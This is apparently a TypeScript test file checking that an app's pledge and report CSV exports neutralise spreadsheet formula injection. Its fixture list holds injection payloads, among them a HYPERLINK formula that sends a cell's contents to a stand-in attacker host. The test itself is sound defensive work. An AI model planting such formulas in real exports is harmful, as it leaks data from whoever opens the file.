import { describe, expect, it } from "vitest";
import { pledgesCsv } from "../../src/core/pledge/export.ts";
import type { Pledge } from "../../src/core/pledge/service.ts";
import { reportsToCsv, type OpenedReport } from "../../src/core/reports/export.ts";

/** What a spreadsheet would run as a formula, one per starting character it reacts to. */
const FORMULAS = ['=HYPERLINK("https://jahat.example/?"&A2,"klik")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"];

/** Formula starts found in the CSV without the quote that makes them text. */
function unsafeCells(csv: string): string[] {
  const unsafe: string[] = [];
  for (const formula of FORMULAS) {
    const start = formula.slice(0, 4);
    for (let at = csv.indexOf(start); at >= 0; at = csv.indexOf(start, at + 1)) if (csv[at - 1] !== "'") unsafe.push(JSON.stringify(csv.slice(at - 2, at + 8)));
  }
  return unsafe;
}

describe("CSV exports escape formulas", () => {
  it("in the pledge export (/ekspor): agency, unit and region", async () => {
    const pledges: Pledge[] = FORMULAS.map((f, i) => ({ receipt: `IKR-AAAA-AAA${i}`, userId: String(i), nipHash: "h", nipLast4: "1003", name: f, agency: f, unit: f, province: "Nusa Tenggara Timur", regency: f, pledgedAt: "2026-11-20T03:00:00Z" }));
    const csv = (await pledgesCsv(pledges)).toString("utf8");
    expect(unsafeCells(csv)).toEqual([]);
    expect(csv).toContain(`'=HYPERLINK`);
  });

  it("in the offline report export: every field the reporter typed", () => {
    const reports: OpenedReport[] = FORMULAS.map((f, i) => ({
      id: `L-AAAAA${i}`,
      category: "Lainnya",
      status: "Baru",
      createdAt: "2026-11-20",
      updatedAt: "2026-11-20",
      content: { what: f, who: f, where: f, when: f, evidence: [{ kind: "link", url: f }] },
      thread: [],
    }));
    const csv = reportsToCsv(reports);
    expect(unsafeCells(csv)).toEqual([]);
    expect(csv).toContain(`'@SUM`);
  });
});
